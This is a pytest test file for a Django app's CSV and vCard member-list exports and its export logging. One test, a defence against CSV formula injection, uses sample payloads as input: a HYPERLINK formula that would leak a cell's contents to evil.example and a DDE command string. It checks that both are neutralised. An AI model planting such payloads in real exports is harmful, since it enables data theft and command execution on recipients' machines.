"""The member lists a coordinator downloads: CSV for a spreadsheet, vCard for a phone.

The builders in ``registrations.exports`` and the admin actions that serve
them; which rows a user may export at all is in tests/test_coordinator_matrix.py.
"""

import csv
import io
from datetime import datetime
from http import HTTPStatus
from zoneinfo import ZoneInfo

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from groups.services import add_zone_staff
from registrations.constants import ExportKind, SignupStatus
from registrations.exports import members_csv, members_vcard
from registrations.models import ExportRecord, Signup
from tests.factories import (
    PoliceZoneFactory,
    SignupFactory,
    UserFactory,
    WhatsAppGroupFactory,
)

pytestmark = pytest.mark.django_db

MEMBERS_URL = reverse("admin:registrations_member_changelist")
BRUSSELS = ZoneInfo("Europe/Brussels")


@pytest.fixture(autouse=True)
def fast_passwords(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


def member(group, **kwargs):
    return SignupFactory(
        group=group, status=SignupStatus.APPROVED, decided_at=timezone.now(), **kwargs
    )


def csv_rows(members) -> list[list[str]]:
    text = members_csv(members)
    assert text.startswith("\ufeff"), "Excel needs the byte-order mark for UTF-8"
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


def by_column(rows: list[list[str]]) -> list[dict[str, str]]:
    header, *body = rows
    return [dict(zip(header, row, strict=True)) for row in body]


# --- CSV ----------------------------------------------------------------------


def test_csv_has_a_header_and_one_row_per_member(group):
    members = [member(group) for _ in range(3)]

    header, *body = csv_rows(members)

    assert len(header) == 12
    assert len(body) == 3
    assert {row[2] for row in body} == {m.last_name for m in members}
    assert all(row[0] == group.name for row in body)


def test_csv_of_nobody_is_just_the_header():
    assert len(csv_rows([])) == 1


def test_csv_cells_that_a_spreadsheet_would_run_are_made_text(group):
    signup = member(
        group,
        first_name='=HYPERLINK("https://evil.example/?d="&A1,"Klik")',
        last_name="@x",
        street_name="+cmd|' /C calc'!A0",
        house_number="-2+3",
    )

    [row] = by_column(csv_rows([signup]))

    values = list(row.values())
    assert values[1] == "'" + signup.first_name
    assert values[2] == "'@x"
    assert values[3] == "'+cmd|' /C calc'!A0"
    assert values[4] == "'-2+3"
    assert not any(value[:1] in "=+-@" for value in values if value)


def test_csv_leaves_ordinary_cells_as_typed(group):
    signup = member(
        group, first_name="Lotte", last_name="Vanderhoven", street_name="Beukenlaan"
    )

    [row] = csv_rows([signup])[1:]

    assert row[1:4] == ["Lotte", "Vanderhoven", "Beukenlaan"]
    assert row[6] == signup.postcode
    # The day as in Brussels: between midnight there and in UTC they differ.
    assert row[10] == timezone.localdate(signup.decided_at).isoformat()
    assert row[11] == ""


def test_csv_dates_are_the_day_in_belgium(group):
    signup = member(group)
    Signup.objects.filter(pk=signup.pk).update(
        decided_at=datetime(2026, 3, 2, 0, 30, tzinfo=BRUSSELS),
        added_to_whatsapp_at=datetime(2026, 7, 1, 1, 15, tzinfo=BRUSSELS),
    )
    stored = Signup.objects.select_related("group", "municipality").get(pk=signup.pk)

    [row] = csv_rows([stored])[1:]

    assert row[10:12] == ["2026-03-02", "2026-07-01"]


@pytest.mark.parametrize(
    ("phone", "readable"),
    [
        ("+32470123456", "0470 12 34 56"),
        ("+32 471 23 45 67", "0471 23 45 67"),
        ("+31612345678", "00 31 6 12345678"),
    ],
)
def test_csv_phone_numbers_read_as_dialled_from_belgium_and_stay_numbers(
    group, phone, readable
):
    signup = member(group, phone=phone)

    [row] = csv_rows([signup])[1:]

    assert row[8] == readable
    assert not row[8].startswith("'")


def test_csv_keeps_accented_and_non_latin_names(group):
    signup = member(
        group,
        first_name="Zoë-Anaïs",
        last_name="Ćosić Öztürk",
        street_name="Rue de l'Église",
    )

    [row] = csv_rows([signup])[1:]

    assert row[1:4] == ["Zoë-Anaïs", "Ćosić Öztürk", "Rue de l'Église"]


# --- vCard --------------------------------------------------------------------


def cards(text: str) -> list[list[str]]:
    assert text.endswith("\r\n")
    assert "\n" not in text.replace("\r\n", ""), "a bare LF line end"
    assert "\r" not in text.replace("\r\n", ""), "a bare CR line end"
    result, current = [], None
    for line in text.split("\r\n")[:-1]:
        if line == "BEGIN:VCARD":
            assert current is None, "BEGIN inside a card"
            current = []
        elif line == "END:VCARD":
            result.append(current)
            current = None
        else:
            assert current is not None, f"{line!r} outside a card"
            current.append(line)
    assert current is None, "a card without END"
    return result


def test_vcard_has_one_card_per_member_with_crlf_line_ends(group):
    members = [member(group) for _ in range(3)]

    assert len(cards(members_vcard(members))) == 3


def test_vcard_of_nobody_is_empty():
    assert members_vcard([]) == ""


def test_vcard_holds_name_mobile_address_and_group(group):
    group.name = "WABP Terkoest Zuid"
    group.save()
    signup = member(
        group,
        first_name="Lotte",
        last_name="Vanderhoven",
        street_name="Beukenlaan",
        house_number="12",
        box="B",
        phone="0470 12 34 56",
    )

    [card] = cards(members_vcard([signup]))

    assert "VERSION:3.0" in card
    assert "N:Vanderhoven;Lotte;;;" in card
    assert "FN:Lotte Vanderhoven" in card
    assert "TEL;TYPE=CELL:+32470123456" in card
    assert f"EMAIL;TYPE=INTERNET:{signup.email}" in card
    [address] = [line for line in card if line.startswith("ADR")]
    assert address.startswith("ADR;TYPE=HOME:;;Beukenlaan 12 bus B;")
    assert f";{group.municipality.name};;{signup.postcode};" in address
    assert "NOTE:WABP Terkoest Zuid" in card


def test_vcard_escapes_commas_semicolons_and_backslashes(group):
    group.name = "WABP Kerk, Dorp; Noord"
    group.save()
    signup = member(group, first_name="Anne, Marie", last_name="Van;Dam\\Oost")

    [card] = cards(members_vcard([signup]))

    assert "N:Van\\;Dam\\\\Oost;Anne\\, Marie;;;" in card
    assert "FN:Anne\\, Marie Van\\;Dam\\\\Oost" in card
    assert "NOTE:WABP Kerk\\, Dorp\\; Noord" in card


def test_vcard_keeps_accented_names(group):
    signup = member(group, first_name="Zoë", last_name="Ćosić")

    [card] = cards(members_vcard([signup]))

    assert "N:Ćosić;Zoë;;;" in card


# --- the admin actions --------------------------------------------------------

EXPORTS = [
    ("export_csv", ExportKind.CSV, "text/csv", 'attachment; filename="leden.csv"'),
    (
        "export_vcard",
        ExportKind.VCARD,
        "text/vcard",
        'attachment; filename="leden.vcf"',
    ),
]


def post_action(client, action: str, pks) -> object:
    return client.post(
        MEMBERS_URL,
        {"action": action, ACTION_CHECKBOX_NAME: [str(pk) for pk in pks], "index": 0},
    )


@pytest.mark.parametrize(
    ("action", "kind", "content_type", "disposition"), EXPORTS, ids=["csv", "vcard"]
)
def test_export_action_downloads_an_uncached_attachment_and_logs_it(
    client, coordinator_user, group, action, kind, content_type, disposition
):
    members = [member(group, first_name="Zoë"), member(group)]
    client.force_login(coordinator_user)

    response = post_action(client, action, [m.pk for m in members])

    assert response.status_code == HTTPStatus.OK
    assert response["Content-Type"].startswith(content_type)
    assert "charset=utf-8" in response["Content-Type"]
    assert response["Content-Disposition"] == disposition
    cache_control = {part.strip() for part in response["Cache-Control"].split(",")}
    assert "no-store" in cache_control
    body = response.content.decode("utf-8")
    assert "Zoë" in body
    assert all(m.last_name in body for m in members)
    record = ExportRecord.objects.get()
    assert (record.user, record.kind, record.count) == (coordinator_user, kind, 2)
    assert list(record.groups.all()) == [group]


@pytest.mark.parametrize(
    ("action", "kind", "content_type", "disposition"), EXPORTS, ids=["csv", "vcard"]
)
def test_export_counts_only_the_members_in_the_file(
    client, coordinator_user, group, action, kind, content_type, disposition
):
    # Distinct names: made-up ones may repeat and make the check meaningless.
    own = member(group, last_name="Eigenlid")
    foreign = member(
        WhatsAppGroupFactory(municipality=group.municipality), last_name="Anderlid"
    )
    pending = SignupFactory(group=group, last_name="Wachtlid")
    client.force_login(coordinator_user)

    response = post_action(client, action, [own.pk, foreign.pk, pending.pk])

    body = response.content.decode("utf-8")
    assert own.last_name in body
    assert foreign.last_name not in body
    assert pending.last_name not in body
    record = ExportRecord.objects.get()
    assert record.count == 1
    assert list(record.groups.all()) == [group]


@pytest.mark.parametrize("action", ["export_csv", "export_vcard"])
def test_export_takes_as_many_queries_for_twenty_members_as_for_two(
    client, zone_staff, group, action
):
    pks = [member(group).pk for _ in range(20)]
    client.force_login(zone_staff)

    def queries_for(selected) -> int:
        with CaptureQueriesContext(connection) as captured:
            response = post_action(client, action, selected)
        assert response.status_code == HTTPStatus.OK
        return len(captured)

    # The first request also fills per-process caches (content types).
    queries_for(pks[:1])
    assert queries_for(pks) == queries_for(pks[:2])


def test_export_log_shows_the_export_to_staff_of_the_zone_only(
    client, coordinator_user, zone_staff, group
):
    client.force_login(coordinator_user)
    post_action(client, "export_csv", [member(group).pk])
    other_zone_staff = UserFactory()
    add_zone_staff(PoliceZoneFactory(), user=other_zone_staff)
    url = reverse("admin:registrations_exportrecord_changelist")

    client.force_login(zone_staff)
    own_zone = client.get(url)
    client.force_login(other_zone_staff)
    other_zone = client.get(url)

    assert own_zone.status_code == other_zone.status_code == HTTPStatus.OK
    assert list(own_zone.context["cl"].result_list) == [ExportRecord.objects.get()]
    assert coordinator_user.username in own_zone.content.decode()
    assert list(other_zone.context["cl"].result_list) == []
